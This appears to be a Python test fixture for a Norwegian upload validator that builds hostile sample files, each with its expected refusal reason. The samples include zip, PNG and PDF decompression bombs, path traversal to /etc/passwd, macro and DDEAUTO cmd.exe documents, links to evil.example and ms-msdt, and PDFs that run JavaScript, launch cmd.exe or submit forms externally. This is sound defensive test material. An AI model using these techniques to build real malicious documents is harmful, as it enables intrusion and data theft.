"""Hostile files: each with the name it comes under, and a word of the reason that it is refused with."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator

import pikepdf

from tests.projects import files as made
from tests.sweep.real_files import RELS, excel, picture, word, woven

Hostile = tuple[str, bytes, str]
DAMAGED, OTHER, BOMB, MACRO = "skadet", "noe annet", "pakker ut", "makroer"
AFTER, TWO, RUNS, INSIDE, FETCHES = "etter slutten", "to slag", "program", "andre filer inni", "henter innhold"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504 + "EncryptedPackage".encode("utf-16-le") + b"\0" * 2000


def hostile_files() -> Iterator[Hostile]:
    """Yield every hostile file."""
    yield from other_things()
    yield from bombs()
    yield from zips()
    yield from office()
    yield from pictures()
    yield from pdfs()


def other_things() -> Iterator[Hostile]:
    """Things that are not what their name says."""
    yield "bilde.png", HTML, OTHER
    yield "bilde.jpg", made.SVG, OTHER
    yield "tegning.svg", made.SVG, "må være PDF"
    yield "rapport.pdf", HTML, OTHER
    yield "rapport.pdf.exe", b"MZ" + b"\0" * 600, "må være PDF"
    yield "rapport.pdf", b"MZ" + b"\0" * 600, OTHER
    yield "notat.docx", b"{\\rtf1\\ansi{\\object\\objautlink}}", OTHER
    yield "notat.docx", OLE, "låst med passord"
    yield "tall.xlsx", OLE, "låst med passord"
    yield "tall.xlsx", word(1), "Word-dokument"
    yield "notat.docx", woven(0), "en PDF"
    yield "bilde.gif", b"GIF89a/*" + HTML, "må være PDF"
    yield "tall.xlsm", excel(0), "må være PDF"
    yield "skript.js", b"alert(1)", "må være PDF"
    yield "tom.docx", b"", "tom"
    yield "stor.pdf", made.PDF + b"%" * (10 * 1024 * 1024), "10 MB"


def bombs() -> Iterator[Hostile]:
    """Files that unpack to far more than they are."""
    yield "bombe.docx", made.docx(word__media__a_dot_bin=b"\0" * 60_000_000), BOMB
    yield "mange.docx", made.docx(**{f"a{n}": b"" for n in range(2500)}), BOMB
    yield "sum.xlsx", made.xlsx(**{f"a{n}": bytes(range(256)) * 8000 for n in range(60)}), BOMB
    yield "lyver.docx", lying(), DAMAGED
    yield "lag-over-lag.docx", overlapping(), BOMB
    yield "bombe.png", png_bomb(), DAMAGED
    yield "kjempe.png", made.png(60_000, 1)[:16] + struct.pack(">II", 60_000, 60_000) + made.png()[24:], DAMAGED
    yield "tekst.png", with_chunk(b"zTXt", b"k\0\0" + zlib.compress(b"a" * 30_000_000, 9)), BOMB
    yield (
        "bombe.pdf",
        pdf_bomb(b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", zlib.compress(b"1 0 " + b"a" * 90_000_000)),
        BOMB,
    )
    yield "bombe-2.pdf", pdf_bomb(b"/Type/ObjStm/N 1/First 4/Filter/LZWDecode", b"\x80\x0b\x60\x50"), BOMB
    yield "milliard.docx", rezip(word(1), {"word/document.xml": LAUGHS}), DAMAGED
    yield "milliard16.docx", rezip(word(1), {"word/document.xml": LAUGHS.decode().encode("utf-16")}), DAMAGED


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><w>&c;</w>'
)


def zips() -> Iterator[Hostile]:
    """Zips that are more or other than a document."""
    for name in ("../../etc/passwd", "/etc/passwd", "word\\..\\..\\x", "C:/windows/x", "word/../../x"):
        yield "sti.docx", rezip(word(1), {name: b"x"}), DAMAGED
    yield "to-ganger.docx", twice(), DAMAGED
    yield "foran.docx", b"PK\x03\x04" + HTML + word(1), TWO
    yield "bak.docx", word(1) + HTML, AFTER
    yield "kommentar.xlsx", commented(), AFTER
    yield "last.docx", locked(), "låst med passord"
    yield "halv.docx", word(3)[: len(word(3)) // 2], DAMAGED
    yield "vridd.xlsx", bent(), DAMAGED
    yield "lenke.docx", linked(), DAMAGED


def office() -> Iterator[Hostile]:
    """Documents that run, fetch or hide something."""
    yield "makro.docx", rezip(word(1), {"word/vbaProject.bin": OLE}), MACRO
    yield "makro4.xlsx", rezip(excel(0), {"xl/macrosheets/sheet1.xml": b"<x/>"}), MACRO
    yield "slag.docx", retyped(b"application/vnd.ms-word.document.macroEnabled.main+xml"), MACRO
    yield "knapp.docx", rezip(word(1), {"word/activeX/activeX1.xml": b"<x/>"}), RUNS
    yield "skjult.docx", rezip(word(1), {"word/media/image9.png": b"MZ" + b"\0" * 100}), RUNS
    yield "program.xlsx", rezip(excel(0), {"xl/embeddings/kjor.exe": b"MZ"}), RUNS
    yield "objekt.docx", rezip(word(1), {"word/embeddings/oleObject1.bin": OLE}), INSIDE
    yield "inni.docx", rezip(word(1), {"word/embeddings/a.docx": rezip(word(1), {"word/vbaProject.bin": b"x"})}), MACRO
    yield "html.docx", rezip(word(1), {"word/afchunk.html": HTML}), INSIDE
    yield "svg.docx", rezip(word(1), {"word/media/image3.svg": made.SVG}), RUNS
    yield "mal.docx", related("attachedTemplate", "https://evil.example/mal.dotm"), FETCHES
    yield "bilde.docx", related("image", "https://evil.example/sporing.png"), FETCHES
    yield "ole.docx", related("oleObject", "file://///evil.example/a"), FETCHES
    yield "unc.docx", related("hyperlink", "\\\\evil.example\\deling"), FETCHES
    yield "protokoll.docx", related("hyperlink", "ms-msdt:/id PCWDiagnostic"), FETCHES
    yield "dde.docx", field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"), FETCHES
    yield "hent.docx", field('INCLUDEPICTURE "https://evil.example/a.png"'), FETCHES
    yield "kobling.xlsx", rezip(excel(0), {"xl/externalLinks/externalLink1.xml": b"<x/>"}), FETCHES
    yield "sporring.xlsx", rezip(excel(0), {"xl/connections.xml": b"<x/>"}), FETCHES


def pictures() -> Iterator[Hostile]:
    """Pictures with more than a picture."""
    yield "halv.png", picture(3, "PNG")[:-500], DAMAGED
    yield "halv.jpg", picture(3, "JPEG")[:-500], DAMAGED
    yield "midt.png", picture(3, "PNG").replace(b"IDAT", b"IDAX", 1), DAMAGED
    yield "zip.png", picture(3, "PNG") + word(1), TWO
    yield "zip.jpg", picture(3, "JPEG") + word(1), TWO
    yield "slutt.jpg", picture(3, "JPEG") + HTML + b"\xff\xd9", AFTER
    yield "tekst.png", with_chunk(b"tEXt", b"Comment\0" + HTML), RUNS
    comment = b"\xff\xfe" + struct.pack(">H", len(HTML) + 2) + HTML
    yield "kommentar.jpg", picture(3, "JPEG")[:2] + comment + picture(3, "JPEG")[2:], RUNS


def pdfs() -> Iterator[Hostile]:
    """PDFs that run, start, send, hold or hide something."""
    yield "apne.pdf", changed("/OpenAction", script()), RUNS
    yield "skjult.pdf", changed("/OpenAction", script(), pack=True), RUNS
    yield (
        "navn.pdf",
        changed("/Names", pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([])))),
        RUNS,
    )
    disguised = changed("/OpenAction", script()).replace(b"/JavaScript", b"/J#61vaScript")
    yield "forkledd.pdf", refit(disguised), RUNS
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F="cmd.exe")
    yield "start.pdf", changed("/OpenAction", launch), "starte andre"
    sends = pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F="https://evil.example/")
    yield "skjema.pdf", changed("/AA", pikepdf.Dictionary(WC=sends)), "sender opplysninger"
    goes = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F="//evil.example/a.pdf")
    yield "hent.pdf", changed("/OpenAction", goes), FETCHES
    yield "xfa.pdf", changed("/AcroForm", pikepdf.Dictionary(XFA=pikepdf.Array([]))), RUNS
    yield "vedlegg.pdf", enclosing(), INSIDE
    yield "last.pdf", encrypted(), "låst med passord"
    yield "halv.pdf", woven(3)[: len(woven(3)) // 2], DAMAGED
    yield "uten-hale.pdf", woven(3)[:-20], DAMAGED
    yield "zip.pdf", woven(3) + word(1), TWO
    yield "html.pdf", woven(3) + HTML, AFTER
    yield "forst.pdf", b"%PDF-1.4\n" + HTML + woven(3)[9:], AFTER
    yield "tom.pdf", b"%PDF-1.7\nstartxref\n0\n%%EOF", DAMAGED


# How they are made


def rezip(content: bytes, more: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name not in more:
                new.writestr(name, old.read(name))
        for name, body in more.items():
            new.writestr(name, body)
    return out.getvalue()


def retyped(kind: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(word(1))) as archive:
        types = archive.read("[Content_Types].xml")
    extra = b'<Override PartName="/word/x.xml" ContentType="' + kind + b'"/></Types>'
    return rezip(word(1), {"[Content_Types].xml": types.replace(b"</Types>", extra)})


def related(kind: str, target: str) -> bytes:
    relation = f'<Relationships><Relationship Id="r9" Type="{RELS}/{kind}" Target="{target}" TargetMode="External"/>'
    return rezip(word(1), {"word/_rels/settings.xml.rels": f"{relation}</Relationships>".encode()})


def field(code: str) -> bytes:
    half = len(code) // 2
    text = "".join(f"<w:r><w:instrText>{part}</w:instrText></w:r>" for part in (code[:half], code[half:]))
    return rezip(word(1), {"word/header1.xml": f"<w:hdr>{text}</w:hdr>".encode()})


def lying() -> bytes:
    """Make a zip whose list says that a part is smaller than it is."""
    whole = bytearray(made.docx(word__a_dot_xml=b"a" * 100_000))
    at = whole.rindex(b"PK\x01\x02", 0, whole.rindex(b"word/a.xml"))
    whole[at + 24 : at + 28] = struct.pack("<I", 10)
    return bytes(whole)


def overlapping() -> bytes:
    """Make a zip in which many parts share the same packed bytes."""
    whole = bytearray(made.docx(**{f"a{n:03d}": b"b" * 5000 for n in range(20)}))
    first = whole.index(b"PK\x03\x04", whole.index(b"a000") - 40)
    at = whole.index(b"PK\x01\x02")
    while at >= 0:
        length = struct.unpack("<H", whole[at + 28 : at + 30])[0]
        if whole[at + 46 : at + 46 + length].startswith(b"a0"):
            whole[at + 42 : at + 46] = struct.pack("<I", first)
        at = whole.find(b"PK\x01\x02", at + 46)
    return bytes(whole)


def twice() -> bytes:
    out = io.BytesIO(word(1))
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "a") as archive:
            archive.writestr("word/document.xml", "<w/>")
    return out.getvalue()


def commented() -> bytes:
    out = io.BytesIO(excel(0))
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = HTML
    return out.getvalue()


def locked() -> bytes:
    whole = bytearray(word(1))
    for mark, place in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = whole.find(mark)
        while at >= 0:
            whole[at + place] |= 1
            at = whole.find(mark, at + 4)
    return bytes(whole)


def bent() -> bytes:
    whole = bytearray(excel(4))
    with zipfile.ZipFile(io.BytesIO(bytes(whole))) as archive:
        entry = archive.getinfo("xl/worksheets/sheet1.xml")
    at = entry.header_offset + 30 + len(entry.filename) + entry.compress_size // 2
    whole[at : at + 8] = bytes(byte ^ 0x5A for byte in whole[at : at + 8])
    return bytes(whole)


def linked() -> bytes:
    out = io.BytesIO(word(1))
    with zipfile.ZipFile(out, "a") as archive:
        info = zipfile.ZipInfo("word/media/lenke.png")
        info.external_attr = 0o120777 << 16
        archive.writestr(info, "/etc/passwd")
    return out.getvalue()


def with_chunk(name: bytes, body: bytes) -> bytes:
    whole = picture(3, "PNG")
    return whole[:33] + made._chunk(name, body) + whole[33:]


def png_bomb() -> bytes:
    """Make a picture of four pixels whose data unpack to a hundred million bytes."""
    header = made._chunk(b"IHDR", struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0))
    data = made._chunk(b"IDAT", zlib.compress(b"\0" * 100_000_000))
    return b"\x89PNG\r\n\x1a\n" + header + data + made._chunk(b"IEND", b"")


def pdf_bomb(about: bytes, body: bytes) -> bytes:
    held = b"9 0 obj<<%s/Length %d>>stream\n%s\nendstream endobj\n" % (about, len(body), body)
    return made.PDF.replace(b"xref\n0 3", held + b"xref\n0 3", 1)


def changed(key: str, value: pikepdf.Object, *, pack: bool = False) -> bytes:
    out = io.BytesIO()
    mode = pikepdf.ObjectStreamMode.generate if pack else pikepdf.ObjectStreamMode.disable
    with pikepdf.open(io.BytesIO(woven(0))) as document:
        document.Root[key] = document.make_indirect(value)
        document.save(out, object_stream_mode=mode)
    return out.getvalue()


def refit(content: bytes) -> bytes:
    """Mend the table of a PDF whose objects have been made longer."""
    lines = [b"%010d 65535 f \n" % 0]
    number = 1
    while True:
        at = content.find(b"\n%d 0 obj" % number)
        if at < 0:
            break
        lines.append(b"%010d 00000 n \n" % (at + 1))
        number += 1
    table = content.rindex(b"\nxref") + 1
    trailer = content[content.rindex(b"trailer") :]
    trailer = trailer[: trailer.index(b"startxref")] + b"startxref\n%d\n%%%%EOF\n" % table
    return content[:table] + b"xref\n0 %d\n" % number + b"".join(lines) + trailer


def script() -> pikepdf.Dictionary:
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")


def enclosing() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(woven(0))) as document:
        document.attachments["kjor.exe"] = b"MZ"
        document.save(out)
    return out.getvalue()


def encrypted() -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(woven(0))) as document:
        document.save(out, encryption=pikepdf.Encryption(owner="a", user="b"))
    return out.getvalue()
